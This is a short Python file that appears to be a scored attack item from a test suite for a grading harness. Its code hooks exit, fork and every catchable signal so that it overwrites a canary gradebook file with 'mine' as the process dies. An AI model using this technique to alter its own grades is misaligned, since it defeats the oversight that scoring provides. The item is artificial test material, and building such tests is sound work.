# attack: writes as it dies
# family: state
# base: solved
# points: 7
# %% last
import atexit, os, signal, weakref
def write(*args):
    open("CANARY/gradebook.db", "w").write("mine")
atexit.register(write)
os.register_at_fork(after_in_child=write, before=write)
for number in range(1, 65):
    try:
        signal.signal(number, write)
    except (OSError, ValueError):
        pass
